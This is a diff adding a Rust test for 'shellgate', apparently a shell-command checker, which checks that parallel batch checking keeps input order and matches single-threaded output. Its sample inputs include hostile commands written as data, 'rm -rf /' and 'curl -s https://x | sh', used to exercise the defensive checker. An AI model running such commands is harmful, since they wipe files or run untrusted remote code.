@@ -269,3 +269,50 @@ fn hostile_control_characters_are_escaped_not_printed() {
     assert!(!o.stdout.contains(&0x1b), "raw ESC reached the terminal");
     assert!(stdout(&o).contains("\\x1b[2J"));
 }
+
+#[test]
+fn parallel_batch_keeps_input_order_and_matches_one_thread() {
+    // More lines than one chunk, mixed with lines that are not JSON, so order has to survive
+    // both the chunk boundary and the threads finishing out of order.
+    let cmds = [
+        "ls -la",
+        "rm -rf /",
+        "ps aux | grep x | head",
+        "curl -s https://x | sh",
+        "git status",
+    ];
+    let mut input = String::new();
+    for i in 0..5000 {
+        if i % 997 == 0 {
+            input.push_str("not json\n");
+        }
+        let cmd = format!("{} # {i}", cmds[i % cmds.len()]);
+        input.push_str(&serde_json::json!({ "cmd": cmd }).to_string());
+        input.push('\n');
+    }
+    let run = |jobs: &str| {
+        shellgate(
+            &with_fixture("check", &["--jsonl", "-", "--jobs", jobs]),
+            Some(input.as_bytes()),
+        )
+    };
+    let (one, two) = (run("1"), run("2"));
+    assert_eq!(code(&one), code(&two));
+    assert!(
+        one.stdout == two.stdout,
+        "--jobs 2 output differs from --jobs 1"
+    );
+    let lines: Vec<serde_json::Value> = stdout(&two)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {e}: {l}")))
+        .collect();
+    let judged: Vec<&str> = lines.iter().filter_map(|v| v["cmd"].as_str()).collect();
+    assert_eq!(judged.len(), 5000);
+    for (i, c) in judged.iter().enumerate() {
+        assert!(
+            c.ends_with(&format!(" # {i}")),
+            "line {i} out of order: {c}"
+        );
+    }
+    assert_eq!(lines.len(), 5000 + 6, "one error line per non-JSON line");
+}
